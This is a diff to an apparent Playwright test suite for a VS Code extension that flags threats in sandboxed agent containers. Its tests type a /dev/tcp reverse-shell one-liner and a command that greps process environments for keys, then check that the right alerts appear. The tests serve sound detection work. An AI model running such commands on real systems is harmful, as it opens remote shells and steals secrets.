@@ -3,7 +3,9 @@
 // .coi/config.toml; the user's own config has the guard freeze rather than
 // kill on CRITICAL, so the decision is the user's), a reverse shell typed into
 // its agent terminal against a listener in the dead-end namespace (nothing
-// leaves the machine), then what the user sees: an error notification with
+// leaves the machine), then what the user sees: first, for an environment
+// scan, a warning whose "Show Details" opens the alert view at the event;
+// then, for the reverse shell, an error notification with
 // "Show Details" and "Kill" within two seconds, the slot's unseen count in the
 // tree and the status bar, the alert view listing the event with its remote
 // address, and the notification's "Kill" removing the slot from the tree.
@@ -123,13 +125,38 @@ test('a sandbox opened from the Palette, monitored by the workspace\'s configura
   await vs.screenshot('sandbox-open');
 });
 
-test('a reverse shell in the agent terminal: an error notification with "Show Details" and "Kill" within two seconds', async () => {
-  const terminal = vs.page.locator('.part.panel .terminal-wrapper .xterm').first();
-  await terminal.click();
-  await vs.page.keyboard.type(`bash -c 'exec 3<>/dev/tcp/${TARGET}/${PORT}; exec sh -i <&3 >&3 2>&3'`);
-  await vs.screenshot('reverse-shell-typed');
-  const startedAt = Date.now();
+/** Types a command line into the agent terminal (the sandbox's shell); returns when Enter was pressed. */
+async function typeInTerminal(line: string, shot?: string): Promise<number> {
+  await vs.page.locator('.part.panel .terminal-wrapper .xterm').first().click();
+  await vs.page.keyboard.type(line);
+  if (shot) await vs.screenshot(shot);
+  const at = Date.now();
   await vs.page.keyboard.press('Enter');
+  return at;
+}
+
+test('reading other processes\' environments: a warning notification; "Show Details" opens the alert view at the event', async () => {
+  const startedAt = await typeInTerminal('cat /proc/*/environ | grep -i key');
+  const toast = vs.notification(new RegExp(`COI WARNING: .*${name}`)).first();
+  await waitFor('the warning notification', async () => (await toast.count()) > 0, 20_000, 25);
+  mark(`warning notification ${Date.now() - startedAt} ms after Enter: ${(await toast.textContent())?.trim()}`);
+  await vs.screenshot('warning-notification', toast).catch(() => undefined);
+  assert.equal(await toast.locator('.codicon-warning').count(), 1, 'a warning, not an error');
+  const buttons = await vs.notificationButtons(toast);
+  assert.ok(buttons.includes('Show Details') && buttons.includes('Kill'), `buttons: ${buttons.join(', ')}`);
+  assert.ok(!buttons.includes('Resume'), 'nothing was frozen');
+  await toast.locator('.monaco-button', { hasText: /^Show Details$/ }).click();
+  const frame = vs.page.frameLocator('iframe.webview.ready').frameLocator('#active-frame');
+  const event = frame.locator('#timeline li.event.level-warning').filter({ hasText: name }).first();
+  await event.locator('details[open]').waitFor({ timeout: 30_000 });
+  assert.match((await event.locator('dl.evidence').textContent()) ?? '', /Process chain.*bash/);
+  await vs.screenshot('warning-details');
+  assert.equal((await incus.getState(name)).status, 'Running', 'a WARNING stops nothing');
+  await vs.runCommand('View: Close All Editors');
+});
+
+test('a reverse shell in the agent terminal: an error notification with "Show Details" and "Kill" within two seconds', async () => {
+  const startedAt = await typeInTerminal(`bash -c 'exec 3<>/dev/tcp/${TARGET}/${PORT}; exec sh -i <&3 >&3 2>&3'`, 'reverse-shell-typed');
   const toast = vs.notification(new RegExp(`COI (CRITICAL|HIGH): .*${name}`)).first();
   await waitFor('the threat notification', async () => (await toast.count()) > 0, 20_000, 25);
   const shownAt = Date.now();
